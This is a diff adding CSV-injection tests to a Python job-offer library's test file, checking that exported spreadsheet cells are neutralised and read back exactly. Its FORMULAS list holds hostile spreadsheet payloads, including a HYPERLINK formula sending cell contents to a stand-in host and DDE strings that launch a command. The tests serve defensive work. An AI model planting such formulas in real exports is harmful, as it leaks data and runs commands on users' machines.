@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import copy
+import csv
 import datetime
+import io
 import json
 import subprocess
 import sys
@@ -20,6 +22,7 @@ from tokencomp import (
     Money,
     Offer,
     Repayment,
+    Role,
     RuleViolation,
     Salary,
     SalaryPeriod,
@@ -28,10 +31,12 @@ from tokencomp import (
     leaving_json,
     load_posting,
     loads,
+    read_csv,
     repayment_owed,
     summarize,
     unstructure,
     validate,
+    write_csv,
 )
 from tokencomp.validation import _validate_offer_fully
 
@@ -290,3 +295,43 @@ class TestPosting:
         result = jsonld(load_posting(json.dumps(document)))
         assert "On-target commission of $20,000.00 to $40,000.00 a year." in result["incentiveCompensation"]
         assert result["jobBenefits"].startswith("Medical, dental and vision cover. An AI inference token budget")
+
+
+FORMULAS = (
+    '=HYPERLINK("http://x.example/"&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "'=1",
+    "''+2",
+)
+
+
+class TestCsvInjection:
+    """export-csv neutralises cells a spreadsheet would run (OWASP), and import reads them back exactly."""
+
+    def offer(self, text: str) -> Offer:
+        salary = Salary(Money("1.00", "USD"), SalaryPeriod.YEAR)
+        return Offer(text, "2026-04-01", "USD", salary, role=Role(title=text), metadata={"team": text})
+
+    @pytest.mark.parametrize("text", FORMULAS)
+    def test_neutralised_and_read_back(self, text: str) -> None:
+        """No cell starts with a formula character; the offer reads back the same."""
+        out = io.StringIO()
+        write_csv([self.offer(text)], out)
+        rows = list(csv.reader(io.StringIO(out.getvalue())))
+        assert all(not cell or cell[0] not in "=+-@\t\r" for cell in rows[1])
+        assert [self.offer(text)] == list(read_csv(out.getvalue()).offers)
+
+    def test_raw(self) -> None:
+        """With raw, the cells are written as they are."""
+        out = io.StringIO()
+        write_csv([self.offer("=1+1")], out, raw=True)
+        assert "=1+1" == list(csv.reader(io.StringIO(out.getvalue())))[1][0]
+
+    @given(st.sampled_from(["=", "+", "-", "@", "'", "''=", ""]), st.text(alphabet="=+-@'ab1 ", max_size=8))
+    def test_round_trip(self, start: str, rest: str) -> None:
+        """Any string, however many quotes and formula characters it starts with, comes back exactly."""
+        out = io.StringIO()
+        write_csv([self.offer(start + rest or "x")], out)
+        assert [self.offer(start + rest or "x")] == list(read_csv(out.getvalue()).offers)
